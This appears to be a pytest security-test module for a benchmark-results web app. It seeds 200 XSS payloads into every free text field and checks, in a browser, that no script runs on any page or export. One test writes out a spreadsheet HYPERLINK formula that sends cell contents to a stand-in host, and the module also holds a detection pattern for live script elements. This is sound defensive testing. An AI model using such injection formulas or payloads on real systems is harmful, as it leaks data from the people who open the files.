"""Scripts in everything that a stranger can write: shown as text on every page and in every file, and never run.

The browser is told to let every script run (it keeps no Content-Security-Policy here), so that escaping alone is
judged; what runs is counted, and so is every element that would.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import cycle, islice
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

import msgspec
import pytest

from queuemark.model.errors import UsageError
from queuemark.model.plan import case_key
from queuemark.model.session import decode_session
from queuemark.views.registry import VIEWS
from tests.attacks.payloads import PAYLOADS, marked
from tests.attacks.places import Place, places, put, shape
from tests.serving import TOKEN, Site
from tests.submissions import RUN, encoded, golden, original

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

LIVE = """() => [...document.querySelectorAll("*")].filter(each =>
    [...each.attributes].some(({name, value}) =>
        /^on/i.test(name) || name !== "value" && /^\\s*(javascript|vbscript|data:text)/i.test(value))
    || (each.localName === "script" && !/^\\/static\\//.test(each.getAttribute("src") || "")
        && each.type !== "application/json")
    || ["iframe", "object", "embed", "base", "marquee", "math", "animate", "foreignObject"].includes(each.localName)
).map(each => each.outerHTML.slice(0, 200))"""

HIGHS = {
    **dict.fromkeys(("system", "release", "version", "architecture", "cpu_model"), 200),
    **dict.fromkeys(("transport", "runtime", "pattern"), 64),
}
"""Characters of what is searched by."""

CONTROLS = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202e\ufeff]")
"""What details may not hold."""

SESSIONS = 4
"""Of the payloads each session holds its share, in every text field that the schema leaves free."""


def free_shapes(document: bytes) -> set[Place]:
    """Those fields that take any text."""
    free, tried = set(), set()
    for place in places(msgspec.json.decode(document), (str,)):
        if shape(place) in tried:
            continue
        tried.add(shape(place))
        changed = msgspec.json.decode(document)
        put(changed, place, marked(0))
        try:
            decode_session(msgspec.json.encode(changed))
        except UsageError:
            continue
        free.add(shape(place))
    # The record sorts by it, so it is read there.
    return free - {("session", "created_at")}


def fitting(turns: Iterator[int], count: int, high: int) -> str:
    """As many of the next payloads, or fewer that have the room; each is whole."""
    text = ""
    for place in islice(turns, count):
        longer = f"{text} {marked(place)}".strip()
        text = longer if len(longer) <= high else text
    return text or next(payload for place in turns if len(payload := marked(place)) <= high)


def loaded(share: list[int], number: int, free: set[Place]) -> bytes:
    """The golden session with payloads in all its texts, and as names of what has free names."""
    document = msgspec.json.decode(encoded(golden()))
    found: dict[Place, list[Place]] = {}
    for place in places(document, (str,)):
        if shape(place) in free:
            found.setdefault(shape(place), []).append(place)
    for same in found.values():
        high, turns = HIGHS.get(same[0][-1], 10_000), cycle(share)
        for place in same:
            put(document, place, fitting(turns, -(-len(share) // len(same)), high))
    machine = document["session"]["machine"]
    for named in ("mitigations", "limits", "answers", "caches_bytes"):
        if machine.get(named):
            value = next(iter(machine[named].values()))
            machine[named] |= {marked(place): value for place in share}
    document["session"]["id"] = f"{number:032x}"
    return msgspec.json.encode(document)


@pytest.fixture(scope="module")
def strewn(site: Site) -> list[str]:
    """A site full of payloads; the ids of the sessions whose every page is to be looked at."""
    free = free_shapes(encoded(golden()))
    assert {
        ("session", "machine", "cpu_model"),
        ("session", "plan", "command"),
        ("cases", "*", "trials", "*", "reason"),
    } <= free
    ids = []
    for number in range(SESSIONS):
        share = list(range(number, len(PAYLOADS), SESSIONS))
        ids.append(site.submit(loaded(share, number + 1, free))["session"])
        written = [CONTROLS.sub(" ", marked(place)) for place in share]
        details = {
            "token": TOKEN,
            "host_label": written[0][:80],
            "processor": written[1][:120],
            "notes": "\n".join(written)[:4000],
        }
        answer = site.client.post(f"/sessions/{ids[-1]}/details", data=details)
        assert answer.status_code < 400, answer.text
    return ids


@pytest.fixture(scope="module")
def originals(site: Site) -> list[str]:
    """Two hundred of the original's files, a payload in each of their texts; what of them cannot be XML is left out."""
    for place in range(len(PAYLOADS)):
        text = escape(re.sub(r"[^\t\n\r -\U0010ffff]|[\ufffe\uffff]", "", marked(place)))
        words = dict.fromkeys(("sysname", "release", "version", "machine"), text)
        site.submit_original(original(f"{place:032x}", runs=RUN, **words))
    sessions = site.client.get("/api/sessions").json()["sessions"]
    return [row["id"] for row in sessions if row["source"] == "queueable"][:3]


@pytest.fixture
def watched(chromium: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A browser that keeps no policy and tells what ran."""
    ran: list[str] = []
    with chromium.new_context(bypass_csp=True) as visitor:
        visitor.expose_binding("ran", lambda source: ran.append(source["page"].url))
        page = visitor.new_page()
        page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        yield page, ran


def look_at(page: Page, ran: list[str], address: str) -> None:
    answer = page.goto(address, wait_until="load")
    # 422: a session that is compared with itself, and a picture that has nothing to show.
    assert answer is not None and answer.status in (200, 422), f"{address}: {answer and answer.status}"
    assert page.evaluate(LIVE) == [], address
    assert ran == [], address


def pages_of(site: Site, id: str) -> list[str]:
    """All that is shown of one session."""
    cases = site.client.get(f"/sessions/{id}.json").json()["cases"]
    known = decode_session(site.client.get(f"/sessions/{id}.json").content)
    key = case_key(known.cases[len(cases) // 2].case)
    return [
        f"/sessions/{id}",
        *(f"/sessions/{id}?view={view}" for view in VIEWS),
        f"/sessions/{id}/cases/{key}",
        f"/sessions/{id}/edit",
        f"/compare?sessions={id},{'0' * 31}1",
        f"/sessions/{id}/embed/rates",
        f"/sessions/{id}/badge.svg",
        *(f"/sessions/{id}/pictures/{name}.svg" for name, view in VIEWS.items() if view.chart),
    ]


def test_there_are_two_hundred_payloads_and_a_browser_that_takes_them_for_text_is_what_saves_us(
    watched: tuple[Page, list[str]],
) -> None:
    """What is counted here does happen where nothing is escaped."""
    page, ran = watched
    assert len(set(PAYLOADS)) == 200
    page.set_content(f"<p>{PAYLOADS[3]}</p>")
    page.wait_for_function("() => document.images[0]?.complete")
    page.wait_for_timeout(100)
    assert ran != []
    assert page.evaluate(LIVE) != []


@pytest.mark.parametrize("number", range(SESSIONS))
def test_no_payload_of_a_session_runs_on_any_page_of_it(
    site: Site, strewn: list[str], watched: tuple[Page, list[str]], number: int
) -> None:
    page, ran = watched
    for path in pages_of(site, strewn[number]):
        look_at(page, ran, site.url + path)


def test_no_payload_of_any_submission_runs_where_many_are_listed(
    site: Site, strewn: list[str], originals: list[str], watched: tuple[Page, list[str]]
) -> None:
    page, ran = watched
    paths = ["/", "/platforms", "/sessions", "/advise?size=64&consumers=1", *(f"/sessions/{id}" for id in originals)]
    for path in paths:
        look_at(page, ran, site.url + path)
    seen = set()
    page.goto(f"{site.url}/sessions")
    while (older := page.locator("a[rel=next]")).count() and page.url not in seen:
        seen.add(page.url)
        older.first.click()
        page.wait_for_load_state("load")
        assert page.evaluate(LIVE) == []
    assert ran == []


@pytest.mark.parametrize("suffix", ["json", "csv", "xml", "hgrm"])
def test_no_file_is_taken_for_a_page(
    site: Site, strewn: list[str], originals: list[str], watched: tuple[Page, list[str]], suffix: str
) -> None:
    page, ran = watched
    ids = originals if suffix == "xml" else strewn
    for id in ids[:2]:
        answer = site.client.get(f"/sessions/{id}.{suffix}")
        if answer.status_code >= 400:
            assert suffix in ("xml", "hgrm"), answer.text
            continue
        kind = answer.headers["content-type"]
        assert "html" not in kind and answer.headers["x-content-type-options"] == "nosniff"
        page.set_content(f"<iframe src='{site.url}/sessions/{id}.{suffix}'></iframe>")
        page.wait_for_load_state("load")
        assert ran == []


FORMULA = re.compile(r"^[=+\-@\t\r]")


def test_no_cell_of_a_csv_begins_a_formula(site: Site) -> None:
    import csv
    import io

    document = msgspec.json.decode(encoded(golden()))
    for number, start in enumerate(("=", "+", "-", "@", "\t", "\r"), 1):
        changed = msgspec.json.decode(msgspec.json.encode(document))
        formula = f'{start}HYPERLINK("http://elsewhere.example/"&A1,"x")'
        for case in changed["cases"]:
            for trial in case["trials"]:
                trial["reason"] = trial["remedy"] = formula
            case["case"]["transport"] = formula
            case["case"]["params"] = {formula: formula}
        changed["session"]["id"] = f"{0xF0 + number:032x}"
        id = site.submit(msgspec.json.encode(changed))["session"]
        for level in ("case", "trial", "consumer"):
            text = site.client.get(f"/sessions/{id}.csv?level={level}").text
            cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
            live = [cell for cell in cells if FORMULA.match(cell) and not number_like(cell)]
            assert live == [], level
            assert any("HYPERLINK" in cell for cell in cells)


def number_like(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
